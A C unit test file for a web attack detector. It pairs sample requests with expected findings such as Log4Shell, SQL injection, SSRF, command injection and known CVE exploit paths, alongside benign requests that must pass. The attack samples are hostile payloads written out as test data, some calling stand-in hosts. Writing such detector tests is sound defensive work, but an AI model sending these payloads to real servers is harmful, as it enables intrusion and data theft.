/* test_web_detect.c - each class of attack with what it must see and what it must pass over; exploits; the rules' ids. */
#include "web_fixture.h"

#include "web/filter.h"
#include "web/web_priv.h"

struct sample {
    const char *where; /* "T" target, "R" referer, "A" agent, or a method */
    const char *text;
    const char *expected; /* a part of the finding's title; NULL: nothing is found but hints */
};

static void check(const struct sample *sample)
{
    struct web_run run;
    const char *method = strlen(sample->where) > 1 ? sample->where : "GET";
    char kind = strlen(sample->where) > 1 ? 'T' : sample->where[0];
    web_run_request(&run, method, kind == 'T' ? sample->text : "/x", kind == 'R' ? sample->text : "-",
                    kind == 'A' ? sample->text : "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", 404);
    const struct web_found *found = NULL;
    for (size_t i = 0; i < run.count; i++)
        if (run.found[i].level > SW_LEVEL_INFORMATIONAL)
            found = &run.found[i];
    if (sample->expected == NULL && found != NULL)
        fail_msg("%s: found %s (%s)", sample->text, found->title, found->why);
    if (sample->expected != NULL && (found == NULL || strstr(found->title, sample->expected) == NULL))
        fail_msg("%s: %s, not %s", sample->text, found != NULL ? found->title : "nothing", sample->expected);
}

static const struct sample attacks[] = {
    {"A", "${jndi:dns://inert.example/x}", "CVE-2021-44228"},
    {"R", "${${lower:j}${::-n}di:ldap://inert.example/x}", "CVE-2021-44228"},
    {"T", "/?x=%24%7Bjndi%3Armi%3A%2F%2Finert.example%7D", "CVE-2021-44228"},
    {"T", "/?name=%7B%7B7*7%7D%7D", "Expression"},
    {"T", "/?name=%23%7B%22%22.getClass()%7D", "Expression"},
    {"T", "/?f=..%2f..%2f..%2fetc%2fpasswd", "Path Traversal"},
    {"T", "/..%c0%af..%c0%afwinnt", "Path Traversal"},
    {"T", "/static/%2e%2e%5c%2e%2e%5cx", "Path Traversal"},
    {"T", "/?f=/etc/shadow", "Path Traversal"},
    {"T", "/?src=http://203.0.113.9/a.txt?", "Remote File Inclusion"},
    {"T", "/?u=http://169.254.169.254/latest/meta-data/", "Server-Side Request Forgery"},
    {"T", "/?u=http%3A%2F%2F0x7f000001%2F", "Server-Side Request Forgery"},
    {"T", "/?u=gopher://h/_x", "Server-Side Request Forgery"},
    {"T", "/?ip=127.0.0.1;cat+/etc/hosts", "Command Injection"},
    {"T", "/?ip=1%7Cwh''oami", "Command Injection"},
    {"T", "/?ip=%24(id)", "Command Injection"},
    {"T", "/?ip=1%26%26ipconfig+/all", "Command Injection"},
    {"T", "/?x=Get-Content+c.txt", "Command Injection"},
    {"A", "() { :; }; echo inert", "CVE-2014-6271"},
    {"T", "/?id=1'+or+'1'%3D'1", "SQL Injection"},
    {"T", "/?id=1+UNION/**/SELECT+1,2,3--", "SQL Injection"},
    {"T", "/?id=1;waitfor+delay+'0:0:1'", "SQL Injection"},
    {"T", "/?id=1)+and+sleep(1)--+", "SQL Injection"},
    {"T", "/?u[$ne]=x", "NoSQL"},
    {"T", "/?u=*)(uid=*))(|(uid=*", "NoSQL"},
    {"T", "/?q=%3Cscript%3Ealert(1)%3C/script%3E", "Cross-Site Scripting"},
    {"T", "/?q=%22+onmouseover%3Dx+", "Cross-Site Scripting"},
    {"T", "/?q=java%0ascript%3Ax", "Cross-Site Scripting"},
    {"T", "/?q=%EF%BC%9Csvg%EF%BC%9E", "Cross-Site Scripting"},
    {"T", "/?x=%3C%3Fphp+echo+1%3B", "PHP Code Injection"},
    {"T", "/?x=php://filter/read=x/resource=y", "PHP Code Injection"},
    {"T", "/?x=O:8:%22stdClass%22:0:{}", "PHP Code Injection"},
    {"T", "/?x=$f('a')", "PHP Code Injection"},
    {"T", "/?__proto__[a]=b", "Script Code Injection"},
    {"T", "/?x=require('child_process')", "Script Code Injection"},
    {"T", "/?x=rO0ABXNyAA", "Java Object"},
    {"T", "/?x=java.lang.ProcessBuilder", "Java Object"},
    {"T", "/?x=%0d%0aSet-Cookie:+a=b", "Header or Mail"},
    {"PUT", "/upload/a.jsp/", "Upload of a Server Script"},
    {"T", "/uploads/c99.php", "Web Shell"},
    {"T", "/images/x.aspx?cmd=whoami", "Web Shell"},
    {"T", "/.git/config", "Should Not Be Public"},
    {"T", "/wp-config.php.bak", "Should Not Be Public"},
    {"A", "sqlmap/1.7", "Scanner"},
    {"T", "/autodiscover/autodiscover.json?@x/powershell/?X", "CVE-2021-34473"},
    {"T", "/setup/setupadministrator.action", "CVE-2023-22515"},
    {"T", "/%24%7B%28%23inert%29%7D/", "CVE-2022-26134"},
    {"POST", "/json/setup-restore.action", "CVE-2023-22518"},
    {"T", "/vpn/../vpns/cfg/smb.conf", "CVE-2019-19781"},
    {"T", "/tmui/login.jsp/..;/x", "CVE-2020-5902"},
    {"T", "/remote/fgt_lang?lang=/../..//dev/cmdb/x", "CVE-2018-13379"},
    {"T", "/dana-na/../dana/x", "CVE-2019-11510"},
    {"T", "/cgi-bin/.%2e/%2e%2e/x", "CVE-2021-41773"},
    {"T", "/x?class.module.classLoader.inert=1", "CVE-2022-22965"},
};

static const struct sample ordinary[] = {
    {"T", "/", NULL},
    {"T", "/a/b.html?c=d&e=f%20g", NULL},
    {"T", "/search?q=fish+and+chips", NULL},
    {"T", "/search?q=select+a+table+from+the+catalogue", NULL},
    {"T", "/search?q=O%27Reilly%27s+book", NULL},
    {"T", "/search?q=rock+%27n%27+roll", NULL},
    {"T", "/search?q=price+%3C+100", NULL},
    {"T", "/search?q=cat+videos", NULL},
    {"T", "/search?q=what+is+a+union+of+workers%3F", NULL},
    {"T", "/search?q=C%2B%2B+(language)", NULL},
    {"T", "/search?q=drop+by+the+table", NULL},
    {"T", "/go?url=https://www.example.com/a%3Fb%3Dc", NULL},
    {"T", "/go?next=/account/orders", NULL},
    {"T", "/list?filter[name]=x&sort[]=y", NULL},
    {"T", "/a;jsessionid=0123456789ABCDEF", NULL},
    {"T", "/t/100%25-cotton", NULL},
    {"T", "/caf%C3%A9/%E4%BD%A0%E5%A5%BD", NULL},
    {"T", "/api?json=%7B%22a%22%3A%5B1,2%5D%7D", NULL},
    {"T", "/.well-known/acme-challenge/x", NULL},
    {"T", "/get-started", NULL},
    {"T", "/img?size=10x20&crop=(1,2)", NULL},
    {"T", "/wp-admin/load-scripts.php?c=0&load%5Bchunk_0%5D=jquery-core,utils&ver=6.9", NULL},
    {"R", "https://www.google.com/search?q=how+to+list+files&source=web", NULL},
    {"R", "https://www.example.org/?utm_source=a&utm_campaign=b%3A+c", NULL},
    {"A", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36", NULL},
    {"A", "curl/8.5.0", NULL},
    {"A", "python-requests/2.31.0", NULL},
    {"A", "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", NULL},
    {"A", "Chef Client/10.18.2 (ruby-1.9.3-p327; ohai-6.16.0; x86_64-linux; +http://opscode.com)", NULL},
    {"PUT", "/api/items/7", NULL},
};

static void sees(void **unused)
{
    (void)unused;
    for (size_t i = 0; i < sizeof attacks / sizeof *attacks; i++)
        check(&attacks[i]);
}

static void passes_over(void **unused)
{
    (void)unused;
    for (size_t i = 0; i < sizeof ordinary / sizeof *ordinary; i++)
        check(&ordinary[i]);
}

static bool is_uuid(struct sw_str id)
{
    if (id.len != 36 || id.ptr[14] != '4')
        return false;
    for (size_t i = 0; i < id.len; i++)
        if (i == 8 || i == 13 || i == 18 || i == 23 ? id.ptr[i] != '-' : sw_hex_digit(id.ptr[i]) < 0)
            return false;
    return true;
}

static void rules(void **unused)
{
    (void)unused;
    size_t count;
    const struct sw_rule *all = sw_web_rules(&count);
    assert_int_equal(count, SW_WEB_CLASS_COUNT * SW_WEB_RULES_A_CLASS + sw_web_exploit_count() * SW_WEB_RULES_AN_EXPLOIT);
    assert_true(sw_web_exploit_count() >= 150);
    for (size_t i = 0; i < count; i++) {
        assert_true(is_uuid(all[i].id));
        assert_true(all[i].title.len > 0 && all[i].tag_count > 0 && all[i].level != SW_LEVEL_NONE);
        for (size_t j = 0; j < i; j++)
            assert_false(sw_str_eq(all[i].id, all[j].id));
    }
    for (uint32_t i = 0; i < sw_web_exploit_count(); i++) {
        const struct sw_rule *attempt = &all[sw_web_exploit_rule(i, SW_WEB_RULE_ATTEMPT)];
        assert_true(sw_str_starts(attempt->title, sw_web_exploit_name(i)));
        assert_int_equal(attempt->level, SW_LEVEL_MEDIUM);
        assert_true(all[sw_web_exploit_rule(i, SW_WEB_RULE_SUCCESS)].level >= SW_LEVEL_HIGH);
        assert_int_equal(all[sw_web_exploit_rule(i, SW_WEB_RULE_VAIN)].level, SW_LEVEL_LOW);
    }
}

/* Whatever a detector sees in a target must not be kept back by the first look. */
static void first_look(void **unused)
{
    (void)unused;
    assert_int_equal(sw_web_phrases_init(), 0);
    for (size_t i = 0; i < sizeof attacks / sizeof *attacks; i++)
        if (attacks[i].where[0] == 'T')
            assert_true(sw_web_target_stands_out(sw_str(attacks[i].text)));
    assert_false(sw_web_target_stands_out(SW_STR("/")));
    assert_false(sw_web_target_stands_out(SW_STR("/images/report/outline-17.webp")));
    assert_false(sw_web_target_stands_out(SW_STR("/search?q=amber+sketch&lang=en")));
    assert_false(sw_web_referer_stands_out(SW_STR("https://www.google.com/search?q=a+b%20c")));
    /* a pair across two blocks of sixteen */
    for (size_t lead = 0; lead < 40; lead++) {
        char text[64];
        memset(text, 'a', sizeof text);
        text[0] = '/';
        memcpy(text + 1 + lead, "../", 3);
        assert_true(sw_web_is_odd(sw_strn(text, lead + 20)));
        text[1 + lead] = 'a';
        assert_false(sw_web_is_odd(sw_strn(text, lead + 20)));
    }
}

/* A phrase is found at any place of a target, whatever the alignment. */
static void phrases_anywhere(void **unused)
{
    (void)unused;
    assert_int_equal(sw_web_phrases_init(), 0);
    static const char *const phrases[] = {"information_schema", "/setup/setupadministrator", "union select", "/etc/passwd", "=/etc/"};
    for (size_t i = 0; i < sizeof phrases / sizeof *phrases; i++) {
        for (size_t lead = 0; lead < 9; lead++) {
            char text[96];
            int len = snprintf(text, sizeof text, "%.*s%s", (int)lead, "zzzzzzzzz", phrases[i]);
            assert_true(sw_web_phrases_may_hold(sw_strn(text, (size_t)len)));
        }
    }
    assert_false(sw_web_phrases_may_hold(SW_STR("/nothing/of/that/kind.css")));
}

int main(void)
{
    const struct CMUnitTest tests[] = {cmocka_unit_test(sees), cmocka_unit_test(passes_over), cmocka_unit_test(rules),
                                       cmocka_unit_test(first_look), cmocka_unit_test(phrases_anywhere)};
    return cmocka_run_group_tests(tests, NULL, NULL);
}
